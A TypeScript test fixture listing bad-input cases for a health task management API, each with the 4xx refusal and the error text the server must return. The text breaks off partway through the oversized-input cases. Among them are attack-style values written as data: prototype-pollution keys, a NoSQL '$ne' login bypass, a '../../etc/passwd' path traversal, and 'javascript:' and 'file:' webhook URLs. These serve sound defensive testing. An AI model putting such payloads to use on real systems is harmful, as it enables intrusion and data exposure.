import ExcelJS from 'exceljs';
import { gzipSync } from 'node:zlib';
import { craftedXlsx, CraftedCell, sharedStringsBomb } from './crafted-xlsx';

/**
 * The bad-input corpus of issue 14: requests that must be refused with a 4xx naming what is wrong,
 * leaving every table as it was. Each case is data: who sends it, where, what body or file, the
 * status it must get, what the answer must name, and which tables it could have touched.
 * `tests/e2e/bad-input-corpus.e2e.spec.ts` runs them against one app.
 *
 * Paths hold placeholders filled from the fixture: {task} (the re-identification task of the first
 * village clinic), {campaign}, {county}, {township}, {village}, {clinic}, {staffUser}, {policy},
 * {unknown} (a UUID of nothing).
 */

export type Category =
  | 'malformed JSON'
  | 'content type and encoding'
  | 'missing field'
  | 'unknown field'
  | 'wrong type'
  | 'oversized'
  | 'path parameter'
  | 'query parameter'
  | 'impossible date'
  | 'injection string'
  | 'file: results upload'
  | 'file: comparison upload'
  | 'file: register import'
  | 'file: unit import'
  | 'file: calendar upload'
  | 'file: evidence upload';

/** Tables whose rows (within the fixture's district) a case could have written. */
export type Table =
  | 'units'
  | 'users'
  | 'campaigns'
  | 'tasks'
  | 'task_events'
  | 'persons'
  | 'households'
  | 'recorded_items'
  | 'comparison_runs'
  | 'comparison_flags'
  | 'register_imports'
  | 'evidence'
  | 'extension_requests'
  | 'announcements'
  | 'notifications'
  | 'recurring'
  | 'policies'
  | 'catalogue'
  | 'templates'
  | 'calendars'
  | 'notification_settings'
  | 'audit';

export type Sender = 'admin' | 'manager' | 'staff' | 'anonymous';

/** What the fixture gives a file builder: the ID numbers on the task of {task}, and one of another village. */
export interface FileContext {
  taskIdNumbers: string[];
  otherIdNumber: string;
  villageCode: string;
  /** A village of the other township: outside the manager's scope. */
  otherVillageCode: string;
}

export interface Upload {
  /** Multipart field of the file; `file` unless a case sends it wrongly. */
  field?: string;
  name: string;
  contentType?: string;
  bytes: (c: FileContext) => Buffer | Promise<Buffer>;
}

export interface BadInputCase {
  category: Category;
  title: string;
  method: 'get' | 'post' | 'put' | 'patch' | 'delete';
  path: string;
  as: Sender;
  /** A JSON value, sent as application/json. */
  json?: unknown;
  /** A body sent as it is, with its Content-Type (and optionally Content-Encoding). */
  raw?: { type: string; body: string | Buffer; encoding?: string };
  /** Multipart: a file and form fields. */
  multipart?: { file?: Upload; fields?: Record<string, string> };
  status: number;
  /** What the answer (message, and row errors where the route lists them) must name. */
  names: string | RegExp;
  tables: Table[];
}

// ---------------------------------------------------------------------------------------------
// Bytes of files
// ---------------------------------------------------------------------------------------------

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
export const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(120, 7)]);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
const ZIP_OF_NOTHING = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array<number>(18).fill(0)]);

export const csvText = (rows: string[][]) => rows.map((r) => r.join(',')).join('\r\n') + '\r\n';
const csv = (rows: string[][]) => Buffer.concat([BOM, Buffer.from(csvText(rows))]);
const utf16le = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
const utf16be = (text: string) => {
  const le = Buffer.from(text, 'utf16le');
  for (let i = 0; i + 1 < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1], le[i]];
  return Buffer.concat([Buffer.from([0xfe, 0xff]), le]);
};
/** UTF-8 text with one byte that is not UTF-8 put at the start of `row` (1-based, the header is row 1). */
function brokenAtRow(rows: string[][], row: number): Buffer {
  const lines = rows.map((r) => Buffer.from(r.join(',')));
  lines[row - 1] = Buffer.concat([Buffer.from([0xff]), lines[row - 1]]);
  return Buffer.concat(lines.flatMap((line) => [line, Buffer.from('\r\n')]));
}

/** A workbook through exceljs, for what crafted-xlsx does not write: merged cells, error values. */
async function workbook(build: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  build(book.addWorksheet('Sheet1'));
  return Buffer.from(await book.xlsx.writeBuffer());
}
/** A title row merged over the columns, the real headers in row 2: the header row lacks the columns. */
const titledWorkbook = (headers: string[], row: string[]) =>
  workbook((sheet) => {
    sheet.addRow(['建档立卡贫困人口名单（2027年）']);
    sheet.mergeCells(1, 1, 1, headers.length);
    sheet.addRow(headers);
    sheet.addRow(row);
  });
/** Two header rows: the first column merged down, the others under a merged group title. */
const twoLevelHeader = (first: string, group: string, below: string[], row: string[]) =>
  workbook((sheet) => {
    sheet.addRow([first, group, ...below.slice(1).map(() => '')]);
    sheet.addRow(['', ...below]);
    sheet.mergeCells(1, 1, 2, 1);
    sheet.mergeCells(1, 2, 1, below.length + 1);
    sheet.addRow(row);
  });
const errorCellWorkbook = (headers: string[], row: (string | { error: ExcelJS.CellErrorValue['error'] })[]) =>
  workbook((sheet) => {
    sheet.addRow(headers);
    sheet.addRow(row);
  });
/** Rows with the cell at (row, column), 1-based, made an error value. */
const errorCellWorkbookRows = (headers: string[], rows: string[][], row: number, column: number) =>
  workbook((sheet) => {
    sheet.addRow(headers);
    for (const r of rows) sheet.addRow(r);
    sheet.getRow(row).getCell(column).value = { error: '#DIV/0!' };
  });
const xlsx = (rows: CraftedCell[][]) => craftedXlsx(rows);
const truncatedXlsx = async (rows: CraftedCell[][]) => {
  const whole = await craftedXlsx(rows);
  return whole.subarray(0, Math.floor(whole.length / 2));
};

/** A real resident ID number (right check character) with an impossible birth date, built by hand. */
function idWithBirthDate(birth: string, seq = 37): string {
  const body = `510812${birth}${String(seq).padStart(3, '0')}`;
  const weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
  const sum = [...body].reduce((s, d, i) => s + Number(d) * weights[i], 0);
  return body + '10X98765432'[sum % 11];
}
const wrongCheck = (id: string) => id.slice(0, 17) + (id[17] === '1' ? '2' : '1');
const futureBirth = () => {
  const d = new Date(Date.now() + 400 * 86400_000);
  return d.toISOString().slice(0, 10).replace(/-/g, '');
};

// ---------------------------------------------------------------------------------------------
// Route shorthands
// ---------------------------------------------------------------------------------------------

const RESULTS = '/api/tasks/{task}/items/results';
const COMPARISON = '/api/campaigns/{campaign}/comparisons';
const REGISTER = '/api/population/imports';
const RESULT_HEADERS = ['身份证号', '识别结果', '疾病', '说明'];
const LIST_HEADERS = ['身份证号', '户编号', '主要致贫原因', '次要致贫原因'];
const REGISTER_HEADERS = ['户编号', '村代码', '户主姓名', '姓名', '与户主关系', '身份证号', '性别', '出生日期', '脱贫状态'];
const registerRow = (c: FileContext, id: string) => ['H-BAD-1', c.villageCode, '张三', '张三', '户主', id, '', '', '未脱贫'];

const day = (n: number) => new Date(Date.now() + n * 86400_000).toISOString().slice(0, 10);
const campaign = (patch: Record<string, unknown> = {}) => ({
  name: '坏输入',
  template: 're_identification',
  scopeUnitId: '{county}',
  startsOn: day(1),
  endsOn: day(60),
  steps: [{ dueAt: day(30), responsibleUnitKind: 'village_clinic' }],
  ...patch,
});
const task = (patch: Record<string, unknown> = {}) => ({ title: '坏输入任务', unitId: '{clinic}', dueAt: day(10), ...patch });
const user = (patch: Record<string, unknown> = {}) => ({
  username: 'bad-input-user',
  displayName: '坏输入',
  password: 'long-enough-1',
  role: 'staff',
  unitId: '{clinic}',
  ...patch,
});
const unit = (patch: Record<string, unknown> = {}) => ({
  code: 'BAD-INPUT-1',
  name: '坏输入村',
  kind: 'village',
  parentId: '{township}',
  ...patch,
});
const recurring = (patch: Record<string, unknown> = {}) => ({
  title: '坏输入月报',
  kind: 'monthly_system_update',
  scopeUnitId: '{county}',
  unitKind: 'health_centre',
  cron: '0 9 1 * *',
  dueAfterDays: 5,
  ...patch,
});
const policyBody = { remindersBefore: [], quietHours: { start: '00:00', end: '00:00' }, escalation: [], digestWindow: 'none' };

// ---------------------------------------------------------------------------------------------
// The cases
// ---------------------------------------------------------------------------------------------

const cases: BadInputCase[] = [];
const add = (c: BadInputCase) => cases.push(c);

/** JSON routes that create: where malformed, empty or mistyped bodies are sent. */
const JSON_ROUTES: { method: BadInputCase['method']; path: string; as: Sender; tables: Table[] }[] = [
  { method: 'post', path: '/api/auth/login', as: 'anonymous', tables: ['users', 'audit'] },
  { method: 'post', path: '/api/campaigns', as: 'admin', tables: ['campaigns'] },
  { method: 'post', path: '/api/units', as: 'admin', tables: ['units'] },
  { method: 'post', path: '/api/users', as: 'admin', tables: ['users'] },
  { method: 'post', path: '/api/tasks', as: 'admin', tables: ['tasks'] },
  { method: 'post', path: '/api/announcements', as: 'admin', tables: ['announcements', 'notifications'] },
  { method: 'post', path: '/api/policies', as: 'admin', tables: ['policies'] },
  { method: 'post', path: '/api/recurring-tasks', as: 'admin', tables: ['recurring'] },
  { method: 'put', path: '/api/notifications/settings', as: 'staff', tables: ['notification_settings'] },
  { method: 'post', path: '/api/tasks/bulk', as: 'admin', tables: ['tasks', 'task_events'] },
];

// Malformed JSON, on every JSON route above.
// The parser's own words, which name JSON and the position.
const MALFORMED: [string, string, RegExp][] = [
  ['truncated', '{"name":', /Unexpected end of JSON input/],
  ['single quotes', "{'name':'x'}", /in JSON at position 1/],
  ['a trailing comma', '{"name":"x",}', /in JSON at position 12/],
];
for (const route of JSON_ROUTES)
  for (const [what, body, names] of MALFORMED)
    add({
      category: 'malformed JSON',
      title: `${route.method.toUpperCase()} ${route.path}: ${what}`,
      ...route,
      raw: { type: 'application/json', body },
      status: 400,
      names,
    });
for (const [what, body, names] of [
  ['NaN', '{"dueAfterDays": NaN}', /is not valid JSON/],
  ['a comment', '{"title": "x" /* c */}', /in JSON at position 14/],
  ['two objects', '{"title":"x"}{"title":"y"}', /after JSON at position 13/],
  ['an unquoted key', '{title:"x"}', /in JSON at position 1/],
  ['a control character in a string', '{"title":"a\u0001b"}', /Bad control character in string literal in JSON/],
  ['nothing but whitespace', '   ', /Unexpected end of JSON input/],
  ['a lone surrogate in a title', '{"title":"\\ud800"}', /title holds a lone UTF-16 surrogate/],
  ['a lone surrogate in a key', '{"\\udfff":"x"}', /lone UTF-16 surrogate/],
  ['a NUL character in a title', '{"title":"a\\u0000b"}', /title holds a NUL character/],
  ['a prototype key deep inside', '{"title":"x","policy":{"a":{"__proto__":{"polluted":true}}}}', /holds the key \W+__proto__/],
] as [string, string, RegExp][])
  add({
    category: 'malformed JSON',
    title: `POST /api/recurring-tasks: ${what}`,
    method: 'post',
    path: '/api/recurring-tasks',
    as: 'admin',
    raw: { type: 'application/json', body },
    status: 400,
    names,
    tables: ['recurring'],
  });
// JSON that parses but is not an object.
for (const [what, body, names] of [
  ['an array', '[{"title":"x"}]', /title/],
  ['a string', '"x"', /is not valid JSON/],
  ['a number', '42', /is not valid JSON/],
  ['null', 'null', /is not valid JSON/],
] as [string, string, RegExp][])
  add({
    category: 'malformed JSON',
    title: `POST /api/tasks: the body is ${what}`,
    method: 'post',
    path: '/api/tasks',
    as: 'admin',
    raw: { type: 'application/json', body },
    status: 400,
    names,
    tables: ['tasks'],
  });
add({
  category: 'malformed JSON',
  title: 'POST /api/campaigns: nested 40 levels deep',
  method: 'post',
  path: '/api/campaigns',
  as: 'admin',
  raw: { type: 'application/json', body: `{"name":"x","steps":[${'{"a":'.repeat(40)}1${'}'.repeat(40)}]}` },
  status: 400,
  names: /nests deeper than 32/,
  tables: ['campaigns'],
});

// Content types and encodings.
for (const [what, raw, status, names] of [
  ['JSON sent as UTF-8 but labelled UTF-16', { type: 'application/json; charset=utf-16', body: '{}' }, 400, /JSON/],
  [
    'JSON in a charset that does not exist',
    { type: 'application/json; charset=klingon', body: '{}' },
    415,
    /unsupported charset \W+KLINGON/,
  ],
  [
    'gzip that is not gzip',
    { type: 'application/json', body: 'not gzip at all', encoding: 'gzip' },
    400,
    /cannot be decompressed as its Content-Encoding says/,
  ],
  ['deflate that is not deflate', { type: 'application/json', body: 'not deflate', encoding: 'deflate' }, 400, /cannot be decompressed/],
  [
    'brotli that is not brotli',
    { type: 'application/json', body: Buffer.from([0xff, 0xff, 0xff, 0xff]), encoding: 'br' },
    400,
    /cannot be decompressed/,
  ],
  [
    'an unknown content encoding',
    { type: 'application/json', body: '{}', encoding: 'compress' },
    415,
    /unsupported content encoding \W+compress/,
  ],
  ['XML', { type: 'application/xml', body: '<campaign><name>x</name></campaign>' }, 400, /name/],
  ['a form', { type: 'application/x-www-form-urlencoded', body: 'name=x&template=re_identification' }, 400, /name|scopeUnitId/],
] as [string, NonNullable<BadInputCase['raw']>, number, RegExp][])
  add({
    category: 'content type and encoding',
    title: `POST /api/campaigns: ${what}`,
    method: 'post',
    path: '/api/campaigns',
    as: 'admin',
    raw,
    status,
    names,
    tables: ['campaigns'],
  });
add({
  category: 'content type and encoding',
  title: 'POST /api/auth/login: text/plain',
  method: 'post',
  path: '/api/auth/login',
  as: 'anonymous',
  raw: { type: 'text/plain', body: 'username=admin&password=demo1234' },
  status: 400,
  names: /username|JSON/,
  tables: ['users', 'audit'],
});
for (const [what, type, body, names] of [
  ['multipart without a boundary', 'multipart/form-data', 'file=x', /Boundary not found/],
  [
    'a multipart body cut off',
    'multipart/form-data; boundary=XyZ',
    '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n\r\n身份证号',
    /Unexpected end of form/,
  ],
  [
    'a multipart part without a name',
    'multipart/form-data; boundary=XyZ',
    '--XyZ\r\nContent-Disposition: form-data; filename="r.csv"\r\n\r\nx\r\n--XyZ--\r\n',
    /Field name missing|file is required/,
  ],
  ['JSON instead of a file', 'application/json', '{"file":"身份证号,识别结果"}', /file is required/],
] as [string, string, string, RegExp][])
  add({
    category: 'content type and encoding',
    title: `POST ${RESULTS}: ${what}`,
    method: 'post',
    path: RESULTS,
    as: 'staff',
    raw: { type, body },
    status: 400,
    names,
    tables: ['recorded_items'],
  });
add({
  category: 'content type and encoding',
  title: 'POST /api/tasks: a gzip-compressed body that is not JSON',
  method: 'post',
  path: '/api/tasks',
  as: 'admin',
  raw: { type: 'application/json', body: gzipSync(Buffer.from('title=x')), encoding: 'gzip' },
  status: 400,
  names: /is not valid JSON/,
  tables: ['tasks'],
});

// Missing required fields, one at a time.
const MISSING: {
  path: string;
  method?: BadInputCase['method'];
  as?: Sender;
  body: Record<string, unknown>;
  drop: string[];
  tables: Table[];
}[] = [
  {
    path: '/api/auth/login',
    as: 'anonymous',
    body: { username: 'admin', password: 'x' },
    drop: ['username', 'password'],
    tables: ['audit'],
  },
  {
    path: '/api/campaigns',
    body: campaign(),
    drop: ['name', 'template', 'scopeUnitId', 'startsOn', 'endsOn', 'steps'],
    tables: ['campaigns'],
  },
  { path: '/api/units', body: unit(), drop: ['code', 'name', 'kind', 'parentId'], tables: ['units'] },
  { path: '/api/users', body: user(), drop: ['username', 'displayName', 'password', 'role', 'unitId'], tables: ['users'] },
  { path: '/api/tasks', body: task(), drop: ['title', 'unitId', 'dueAt'], tables: ['tasks'] },
  {
    path: '/api/announcements',
    body: { title: '通知', body: '内容', scopeUnitId: '{county}' },
    drop: ['title', 'body', 'scopeUnitId'],
    tables: ['announcements'],
  },
  { path: '/api/policies', body: { name: 'bad-input-policy-new', policy: policyBody }, drop: ['name', 'policy'], tables: ['policies'] },
  {
    path: '/api/recurring-tasks',
    body: recurring(),
    drop: ['title', 'kind', 'scopeUnitId', 'unitKind', 'cron', 'dueAfterDays'],
    tables: ['recurring'],
  },
  {
    path: '/api/tasks/bulk',
    body: { action: 'extend', taskIds: ['{task}'], reason: '延期', newDueAt: day(20) },
    drop: ['action', 'taskIds', 'reason', 'newDueAt'],
    tables: ['tasks', 'task_events'],
  },
  {
    path: '/api/users/{staffUser}/handover',
    body: { toUserId: '{staffUser}', reason: '交接' },
    drop: ['toUserId', 'reason'],
    tables: ['tasks'],
  },
  {
    path: '/api/tasks/{task}/extension-requests',
    as: 'staff',
    body: { newDueAt: day(20), reason: '来不及' },
    drop: ['newDueAt', 'reason'],
    tables: ['extension_requests'],
  },
  { path: '/api/campaigns/{campaign}/cancel', body: { reason: '取消' }, drop: ['reason'], tables: ['campaigns', 'tasks'] },
  {
    path: '/api/tasks/{task}/items/{unknown}',
    method: 'put',
    as: 'staff',
    body: { outcome: 'none' },
    drop: ['outcome'],
    tables: ['recorded_items'],
  },
  { path: '/api/tasks/{task}/evidence/notes', as: 'staff', body: { note: '说明' }, drop: ['note'], tables: ['evidence'] },
  { path: '/api/disease-catalogue', body: { name: '目录', diseases: [] }, drop: ['name', 'diseases'], tables: ['catalogue'] },
  {
    path: '/api/notification-templates/task_assigned',
    method: 'put',
    body: { title: '标题', body: '正文' },
    drop: ['title', 'body'],
    tables: ['templates'],
  },
  {
    path: '/api/users/{staffUser}/password',
    method: 'put',
    body: { newPassword: 'long-enough-2' },
    drop: ['newPassword'],
    tables: ['users'],
  },
  {
    path: '/api/notifications/settings',
    method: 'put',
    as: 'staff',
    body: { channels: [] },
    drop: ['channels'],
    tables: ['notification_settings'],
  },
];
for (const m of MISSING)
  for (const field of m.drop) {
    const body = { ...m.body };
    delete body[field];
    add({
      category: 'missing field',
      title: `${(m.method ?? 'post').toUpperCase()} ${m.path} without ${field}`,
      method: m.method ?? 'post',
      path: m.path,
      as: m.as ?? 'admin',
      json: body,
      status: 400,
      names: field,
      tables: m.tables,
    });
  }

// Unknown fields.
for (const [path, body, field, tables, as] of [
  ['/api/auth/login', { username: 'admin', password: 'x', role: 'admin' }, 'role', ['audit'], 'anonymous'],
  ['/api/campaigns', campaign({ status: 'running' }), 'status', ['campaigns'], 'admin'],
  ['/api/units', unit({ path: '/evil/' }), 'path', ['units'], 'admin'],
  ['/api/users', user({ isAdmin: true }), 'isAdmin', ['users'], 'admin'],
  ['/api/users', user({ passwordHash: '$argon2id$v=19$m=65536,t=3,p=4$x$y' }), 'passwordHash', ['users'], 'admin'],
  ['/api/tasks', task({ status: 'approved' }), 'status', ['tasks'], 'admin'],
  ['/api/tasks', task({ __proto__x: 1 }), '__proto__x', ['tasks'], 'admin'],
  [
    '/api/announcements',
    { title: 'x', body: 'y', scopeUnitId: '{county}', recipientCount: 0 },
    'recipientCount',
    ['announcements'],
    'admin',
  ],
  ['/api/recurring-tasks', recurring({ active: false }), 'active', ['recurring'], 'admin'],
  ['/api/tasks/{task}/evidence/notes', { note: '说明', storageKey: '../../etc/passwd' }, 'storageKey', ['evidence'], 'staff'],
] as [string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'unknown field',
    title: `POST ${path} with ${field}`,
    method: 'post',
    path,
    as,
    json: body,
    status: 400,
    names: `property ${field} should not exist`,
    tables,
  });
for (const [method, path, body, field, tables, as] of [
  ['patch', '/api/units/{village}', { code: 'NEW-CODE' }, 'code', ['units'], 'admin'],
  ['patch', '/api/users/{staffUser}', { username: 'renamed' }, 'username', ['users'], 'admin'],
  ['patch', '/api/users/{staffUser}', { password: 'long-enough-3' }, 'password', ['users'], 'admin'],
  ['put', '/api/policies/{policy}', { policy: policyBody, owner: 'me' }, 'owner', ['policies'], 'admin'],
  ['put', '/api/notifications/settings', { channels: [], sms: '123' }, 'sms', ['notification_settings'], 'staff'],
  ['put', '/api/calendars/2097/counties/{county}', { holidays: [], weekends: [] }, 'weekends', ['calendars'], 'admin'],
] as [BadInputCase['method'], string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'unknown field',
    title: `${method.toUpperCase()} ${path} with ${field}`,
    method,
    path,
    as,
    json: body,
    status: 400,
    names: `property ${field} should not exist`,
    tables,
  });
// A prototype-polluting key is an unknown field like any other, and pollutes nothing.
add({
  category: 'unknown field',
  title: 'POST /api/tasks with __proto__',
  method: 'post',
  path: '/api/tasks',
  as: 'admin',
  raw: { type: 'application/json', body: JSON.stringify(task()).replace(/^\{/, '{"__proto__":{"role":"admin"},') },
  status: 400,
  names: /holds the key \W+__proto__/,
  tables: ['tasks'],
});
add({
  category: 'unknown field',
  title: 'POST /api/tasks with constructor.prototype',
  method: 'post',
  path: '/api/tasks',
  as: 'admin',
  json: { ...task(), constructor: { prototype: { isAdmin: true } } },
  status: 400,
  names: /holds the key \W+(constructor|prototype)/,
  tables: ['tasks'],
});

// Wrongly typed fields.
for (const [path, body, field, tables, as] of [
  ['/api/auth/login', { username: 42, password: 'x' }, 'username', ['audit'], 'anonymous'],
  ['/api/auth/login', { username: ['admin'], password: 'x' }, 'username', ['audit'], 'anonymous'],
  ['/api/auth/login', { username: 'admin', password: { $ne: '' } }, 'password', ['audit'], 'anonymous'],
  ['/api/campaigns', campaign({ name: 12345 }), 'name', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ steps: 'all' }), 'steps', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ steps: [] }), 'steps', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ steps: [42] }), 'steps', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ catalogueVersion: 'latest' }), 'catalogueVersion', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ catalogueVersion: 0 }), 'catalogueVersion', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ catalogueVersion: 1e20 }), 'catalogueVersion', ['campaigns'], 'admin'],
  ['/api/campaigns', campaign({ template: 'unknown_template' }), 'template', ['campaigns'], 'admin'],
  [
    '/api/campaigns',
    campaign({ steps: [{ dueAt: day(30), responsibleUnitKind: 'hospital_ward' }] }),
    'responsibleUnitKind',
    ['campaigns'],
    'admin',
  ],
  [
    '/api/campaigns',
    campaign({ steps: [{ dueAt: day(30), responsibleUnitKind: 'village_clinic', policy: 'strict' }] }),
    'policy',
    ['campaigns'],
    'admin',
  ],
  ['/api/units', unit({ kind: 'castle' }), 'kind', ['units'], 'admin'],
  ['/api/units', unit({ isPoorVillage: 'yes' }), 'isPoorVillage', ['units'], 'admin'],
  ['/api/units', unit({ code: 510812100299 }), 'code', ['units'], 'admin'],
  ['/api/units', unit({ name: null }), 'name', ['units'], 'admin'],
  ['/api/users', user({ role: 'superadmin' }), 'role', ['users'], 'admin'],
  ['/api/users', user({ responsibleUnitIds: '{county}' }), 'responsibleUnitIds', ['users'], 'admin'],
  ['/api/users', user({ responsibleUnitIds: ['not-a-uuid'] }), 'responsibleUnitIds', ['users'], 'admin'],
  ['/api/users', user({ displayName: null }), 'displayName', ['users'], 'admin'],
  ['/api/tasks', task({ dueAt: 1767225600000 }), 'dueAt', ['tasks'], 'admin'],
  ['/api/tasks', task({ title: ['a', 'b'] }), 'title', ['tasks'], 'admin'],
  ['/api/tasks', task({ policy: [1, 2] }), 'policy', ['tasks'], 'admin'],
  ['/api/tasks', task({ kind: 42 }), 'kind', ['tasks'], 'admin'],
  ['/api/tasks', task({ assigneeUserId: null }), 'assigneeUserId', ['tasks'], 'admin'],
  ['/api/recurring-tasks', recurring({ dueAfterDays: '5' }), 'dueAfterDays', ['recurring'], 'admin'],
  ['/api/recurring-tasks', recurring({ dueAfterDays: 2.5 }), 'dueAfterDays', ['recurring'], 'admin'],
  ['/api/recurring-tasks', recurring({ dueAfterDays: -1 }), 'dueAfterDays', ['recurring'], 'admin'],
  ['/api/recurring-tasks', recurring({ cron: 'every monday' }), 'cron', ['recurring'], 'admin'],
  ['/api/recurring-tasks', recurring({ cron: '0 9 31 2 *' }), 'cron', ['recurring'], 'admin'],
  ['/api/recurring-tasks', recurring({ unitKind: 'palace' }), 'unitKind', ['recurring'], 'admin'],
  ['/api/tasks/bulk', { action: 'delete', taskIds: ['{task}'], reason: 'x' }, 'action', ['tasks'], 'admin'],
  ['/api/tasks/bulk', { action: 'cancel', taskIds: '{task}', reason: 'x' }, 'taskIds', ['tasks'], 'admin'],
  ['/api/tasks/bulk', { action: 'cancel', taskIds: [], reason: 'x' }, 'taskIds', ['tasks'], 'admin'],
  ['/api/tasks/bulk', { action: 'cancel', taskIds: [42], reason: 'x' }, 'taskIds', ['tasks'], 'admin'],
  ['/api/tasks/{task}/extension-requests/{unknown}/decision', { approve: 'yes' }, 'approve', ['extension_requests'], 'admin'],
  ['/api/policies', { name: 'bad-input-p', policy: 'strict' }, 'policy', ['policies'], 'admin'],
  ['/api/policies', { name: 'bad-input-p', policy: { remindersBefore: 'often' } }, 'remindersBefore', ['policies'], 'admin'],
  ['/api/policies', { name: 'bad-input-p', policy: policyBody, isDefault: 'true' }, 'isDefault', ['policies'], 'admin'],
  ['/api/disease-catalogue', { name: '目录', diseases: [{ code: 1, name: 2, category: 'fatal' }] }, 'diseases', ['catalogue'], 'admin'],
  ['/api/disease-catalogue', { name: '目录', diseases: 'all' }, 'diseases', ['catalogue'], 'admin'],
  ['/api/tasks/{task}/evidence/notes', { note: '   ' }, 'note', ['evidence'], 'staff'],
  ['/api/tasks/{task}/evidence/notes', { note: 42 }, 'note', ['evidence'], 'staff'],
] as [string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'wrong type',
    title: `POST ${path}: ${field} = ${JSON.stringify(body[field] ?? (body.steps as unknown[])?.[0] ?? body.policy)}`,
    method: 'post',
    path,
    as,
    json: body,
    status: 400,
    names: field,
    tables,
  });
for (const [method, path, body, field, tables, as] of [
  ['patch', '/api/units/{village}', { active: 'no' }, 'active', ['units'], 'admin'],
  ['patch', '/api/units/{village}', { name: null }, 'name', ['units'], 'admin'],
  ['patch', '/api/units/{village}', { headUserId: 'boss' }, 'headUserId', ['units'], 'admin'],
  ['patch', '/api/units/{village}', { isPoorVillage: 1 }, 'isPoorVillage', ['units'], 'admin'],
  ['patch', '/api/users/{staffUser}', { role: null }, 'role', ['users'], 'admin'],
  ['patch', '/api/users/{staffUser}', { active: 'false' }, 'active', ['users'], 'admin'],
  ['patch', '/api/users/{staffUser}', { unitId: 42 }, 'unitId', ['users'], 'admin'],
  ['put', '/api/policies/{policy}', { name: null }, 'name', ['policies'], 'admin'],
  ['put', '/api/policies/{policy}', { isDefault: null }, 'isDefault', ['policies'], 'admin'],
  ['put', '/api/notifications/settings', { channels: ['carrier-pigeon'] }, 'channels', ['notification_settings'], 'staff'],
  ['put', '/api/notifications/settings', { channels: 'email' }, 'channels', ['notification_settings'], 'staff'],
  ['put', '/api/notifications/settings', { channels: ['email', 'email'] }, 'channels', ['notification_settings'], 'staff'],
  ['put', '/api/notifications/settings', { channels: [], email: 'not-an-address' }, 'email', ['notification_settings'], 'staff'],
  [
    'put',
    '/api/notifications/settings',
    { channels: [], webhookUrl: 'javascript:alert(1)' },
    'webhookUrl',
    ['notification_settings'],
    'staff',
  ],
  [
    'put',
    '/api/notifications/settings',
    { channels: [], webhookUrl: 'file:///etc/passwd' },
    'webhookUrl',
    ['notification_settings'],
    'staff',
  ],
  ['put', '/api/notifications/settings', { channels: [], webhookSecret: 'short' }, 'webhookSecret', ['notification_settings'], 'staff'],
  ['put', '/api/tasks/{task}/items/{unknown}', { outcome: 'cured' }, 'outcome', ['recorded_items'], 'staff'],
  ['put', '/api/tasks/{task}/items/{unknown}', { outcome: 'conditions', conditions: 'C01' }, 'conditions', ['recorded_items'], 'staff'],
  ['put', '/api/tasks/{task}/items/{unknown}', { outcome: 'none', note: 42 }, 'note', ['recorded_items'], 'staff'],
  ['put', '/api/calendars/2097/counties/{county}', { holidays: '2097-01-01' }, 'holidays', ['calendars'], 'admin'],
  ['put', '/api/calendars/2097/counties/{county}', { holidays: [20970101] }, 'holidays', ['calendars'], 'admin'],
  ['put', '/api/calendars/2097', { year: '2097', holidays: [] }, 'year', ['calendars'], 'admin'],
  ['put', '/api/calendars/2097', { year: 2097, holidays: 'none' }, 'holidays', ['calendars'], 'admin'],
  ['put', '/api/notification-templates/task_assigned', { title: 42, body: '正文' }, 'title', ['templates'], 'admin'],
  ['patch', '/api/formal-talks/{unknown}', { outcome: 42 }, 'outcome', [], 'admin'],
] as [BadInputCase['method'], string, Record<string, unknown>, string, Table[], Sender][])
  add({
    category: 'wrong type',
    title: `${method.toUpperCase()} ${path}: ${field} = ${JSON.stringify(body[field])}`,
    method,
    path,
    as,
    json: body,
    status: 400,
    names: field,
    tables,
  });

// Oversized: strings past their lengths, arrays past their counts, bodies past the limit.
for (const [path, body, field, tables, as] of [
  ['/api/auth/login', { username: 'u'.repeat(65), password: 'x' }, 'username', ['audit'], 'anonymous'],
  ['/api/auth/login', { username: 'admin', password: 'p'.repeat(129) }, 'password', ['audit'], 'anonymous'],
  ['/api/campaigns', campaign({ name: '名'.repeat(201) }), 'name', ['campaigns'], 'admin'],
  [
    '/api/campaigns',
    campaign({ steps: Array.from({ length: 21 }, () => ({ dueAt: day(30), responsibleUnitKind: 'village_clinic' })) }),
    'steps',
    ['campaigns'],
    'admin',
  ],
  ['/api/units', unit({ name: '村'.repeat(101) }), 'name', ['units'], 'admin'],
  ['/api/units', unit({ code: 'C'.repeat(33) }), 'code', ['units'], 'admin'],
  ['/api/users', user({ displayName: '名'.repeat(101) }), 'displayName', ['users'], 'admin'],
  ['/api/users', user({ password: 'p'.repeat(129) }), 'password', ['users'], 'admin'],
  ['/api/users', user({ password: 'short', displayName: '短密码' }), 'password', ['users'], 'admin'],
  [
    '/api/users',
    user({ responsibleUnitIds: Array.from({ length: 501 }, () => '00000000-0000-4000-8000-000000000000') }),
    'responsibleUnitIds',
    ['users'],
    'admin',
  ],
  ['/api/tasks', task({ title: 'T'.repeat(201) }), 'title', ['tasks'], 'admin'],
  ['/api/tasks', task({ description: 'D'.repeat(10_001) }), 'description', ['tasks'], 'admin'],
  ['/api/announcements', { title: '通'.repeat(201), body: 'x', scopeUnitId: '{county}' }, 'title', ['announcements'], 'admin'],
  ['/api/announcements', { title: 'x', body: '文'.repeat(10_001), scopeUnitId: '{county}' }, 'body', ['announcements'], 'admin'],
